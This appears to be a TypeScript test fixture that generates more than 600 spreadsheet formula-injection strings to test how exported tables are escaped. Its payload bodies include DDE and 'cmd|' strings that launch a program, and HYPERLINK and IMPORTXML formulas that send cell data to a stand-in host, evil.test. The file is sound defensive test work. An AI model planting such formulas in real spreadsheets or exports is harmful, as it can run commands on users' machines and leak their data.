/*
 * Texts that spreadsheets are known to take for formulas, at the start of a cell or after what some of them drop before they
 * look. Every kind of table that we write is tried with all of them.
 */

const starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "−"];
const before = ["", " ", "  ", "\u00A0", "\u200B", "\uFEFF", '"', "'", ' "', "\n", "\0"];
const bodies = [
  "1+1",
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://evil.test?x="&A1,"Open")',
  'IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
];

/** More than 600 of them. */
export const formulaPayloads: readonly string[] = before.flatMap((space) =>
  starts.flatMap((start) => bodies.map((body) => `${space}${start}${body}`)),
);
